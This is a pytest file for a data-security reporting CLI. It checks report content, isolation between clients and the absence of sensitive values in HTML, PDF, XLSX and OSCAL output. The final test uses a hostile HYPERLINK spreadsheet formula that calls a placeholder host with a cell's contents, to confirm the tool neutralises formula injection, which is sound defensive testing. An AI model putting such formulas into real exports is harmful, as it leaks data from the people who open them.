"""`dataward report` in every format on the demo workspace: content, isolation, no values leak."""

from __future__ import annotations

import io
import json
import re
from pathlib import Path

from helpers import assert_one_line_error

LEAKY = ["CREDIT_CARD", "US_SSN", "IBAN_CODE", "IN_AADHAAR", "UK_NINO", "UK_NHS", "SECRET"]


def _no_sensitive_values(text: str) -> None:
    from dataward.discovery import detect

    assert [d.entity_type for d in detect(text, entities=LEAKY)] == []


def test_html_is_self_contained_and_names_the_client(cli, demo_ws: Path, tmp_path: Path) -> None:
    out = tmp_path / "northbank.html"
    result = cli("report", "--client", "northbank", "-o", str(out), "-w", str(demo_ws))
    assert result.code == 0, result
    page = out.read_text()
    assert page.startswith("<!doctype html>")
    assert "Northbank Retail Bank: data-security baseline" in page
    assert "Posture by area" in page
    assert "DA-03" in page
    assert page.count("<svg") == 4  # areas, trend, risk heat map, failures by area
    assert "Risk register: likelihood by impact" in page
    assert "Control DA-03 fails" in page  # the register's risk raised by the failing control
    # no script, no external asset: the only URL is the SVG namespace
    assert "<script" not in page
    assert set(re.findall(r"https?://[^\"' )]+", page)) == {"http://www.w3.org/2000/svg"}
    assert "Carewell" not in page  # another client's name never appears
    _no_sensitive_values(page)
    to_stdout = cli("report", "--client", "telora", "-w", str(demo_ws))
    assert to_stdout.out.startswith("<!doctype html>")


def test_pdf_and_xlsx(cli, demo_ws: Path, tmp_path: Path) -> None:
    w = str(demo_ws)
    pdf = tmp_path / "carewell.pdf"
    assert cli("report", "--client", "carewell", "-f", "pdf", "-o", str(pdf), "-w", w).code == 0
    from pypdf import PdfReader

    reader = PdfReader(io.BytesIO(pdf.read_bytes()))
    text = "\n".join(page.extract_text() for page in reader.pages)
    assert "Carewell Health Insurance: data-security baseline" in text
    assert "Posture by area" in text
    assert "page 1" in text
    _no_sensitive_values(text)
    book = tmp_path / "carewell.xlsx"
    assert cli("report", "--client", "carewell", "-f", "xlsx", "-o", str(book), "-w", w).code == 0
    from openpyxl import load_workbook

    wb = load_workbook(book)
    assert wb.sheetnames == ["Summary", "Areas", "Checklist", "Failing checks", "Risks", "Trend"]
    risks = list(wb["Risks"].iter_rows(values_only=True))
    assert risks[0][:2] == ("ref", "rating")
    assert len(risks) > 1
    assert "Risk register" in text
    assert wb["Areas"].max_row == 13  # header + 12 areas
    assert_one_line_error(cli("report", "--client", "carewell", "-f", "pdf", "-w", w), "--output")
    assert_one_line_error(cli("report", "--client", "carewell", "-f", "docx", "-w", w), "--format")


def test_oscal_results_validate(cli, demo_ws: Path, tmp_path: Path) -> None:
    out = tmp_path / "telora.json"
    assert (
        cli("report", "--client", "telora", "-f", "oscal", "-o", str(out), "-w", str(demo_ws)).code
        == 0
    )
    doc = json.loads(out.read_text())
    from trestle.oscal.assessment_results import AssessmentResults

    results = AssessmentResults.model_validate(doc["assessment-results"])
    assert results.results[0].observations
    _no_sensitive_values(out.read_text())


def test_a_client_never_assessed(cli, tmp_path: Path) -> None:
    w = str(tmp_path / "ws")
    assert cli("init", "-w", w).code == 0
    assert (
        cli("clients", "add", "acme", "--name", "Acme Bank", "--category", "PII", "-w", w).code == 0
    )
    page = cli("report", "--client", "acme", "-w", w)
    assert page.code == 0, page
    assert "never assessed" in page.out
    assert_one_line_error(
        cli("report", "--client", "acme", "-f", "oscal", "-w", w), "never been assessed"
    )


def test_catalog_export_as_oscal(cli, demo_ws: Path, tmp_path: Path) -> None:
    out = tmp_path / "catalog.json"
    assert cli("controls", "export", "-o", str(out), "-w", str(demo_ws)).code == 0
    from trestle.oscal.catalog import Catalog

    catalog = Catalog.model_validate(json.loads(out.read_text())["catalog"])
    assert catalog.groups is not None
    assert len(catalog.groups) == 12


def test_the_demo_writes_every_clients_reports(demo_ws: Path) -> None:
    folder = demo_ws / "reports"
    names = sorted(p.name for p in folder.iterdir())
    assert names == sorted(
        [
            f"{c}.{ext}"
            for c in ("carewell", "northbank", "telora")
            for ext in ("html", "pdf", "xlsx", "oscal.json")
        ]
        + ["disposal-DP-0001.pdf"]  # the demo's certificate of disposal (retention)
    )
    assert (folder / "northbank.pdf").read_bytes().startswith(b"%PDF")
    assert folder.stat().st_mode & 0o777 == 0o700


def test_no_imported_text_becomes_a_spreadsheet_formula(tmp_path: Path) -> None:
    from openpyxl import load_workbook

    from dataward.output import Format, inert, render, write_xlsx

    hostile = '=HYPERLINK("http://x.invalid/"&A1,"open")'
    assert inert(hostile) == "'" + hostile
    assert (inert("-"), inert("-12.5"), inert("-1+2"), inert("@SUM(A1)")) == (
        "-",
        "-12.5",
        "'-1+2",
        "'@SUM(A1)",
    )
    assert (
        render([{"a": hostile}], ["a"], Format.CSV, "t").splitlines()[1].startswith("\"'=HYPERLINK")
    )
    book = tmp_path / "x.xlsx"
    write_xlsx([{"a": hostile}], ["a"], book)
    cell = load_workbook(book).active.cell(2, 1)  # type: ignore[union-attr]
    assert cell.data_type == "s"
    assert cell.value == "'" + hostile
